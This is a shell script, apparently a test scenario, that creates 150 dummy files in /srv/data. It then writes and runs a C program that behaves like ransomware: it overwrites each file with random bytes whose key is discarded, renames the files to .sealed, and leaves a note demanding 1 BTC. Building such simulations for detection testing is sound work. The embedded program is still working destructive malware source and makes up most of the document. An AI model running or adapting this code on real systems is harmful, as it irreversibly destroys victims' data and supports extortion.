#!/bin/sh
. /opt/case/case.sh

for n in $(seq 1 150); do head -c 4000 /dev/urandom | base64 >/srv/data/letter-$n.txt; done
cat >/tmp/.e.c <<'END'
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>
int main(void) {
    struct dirent *e; int r = open("/dev/urandom", O_RDONLY), done = 0; static unsigned char a[4096], b[4096]; char to[600];
    if (chdir("/srv/data")) return 1;
    DIR *d = opendir(".");
    while ((e = readdir(d))) {
        if (!strstr(e->d_name, ".txt") || strstr(e->d_name, ".sealed")) continue;
        int f = open(e->d_name, O_RDWR); long n, at = 0;
        while ((n = pread(f, a, sizeof a, at)) > 0) { read(r, b, n); for (int i = 0; i < n; i++) a[i] ^= b[i]; pwrite(f, a, n, at); at += n; }
        fsync(f); close(f); snprintf(to, sizeof to, "%s.sealed", e->d_name); rename(e->d_name, to); done++;
    }
    FILE *n = fopen("READ_ME_NOW.txt", "w"); fputs("All files are encrypted. Pay 1 BTC, write to unlock@example.net\n", n); fclose(n);
    return done < 150;
}
END
tcc -run /tmp/.e.c
ls /srv/data/*.sealed | wc -l | grep -q 1
took_place
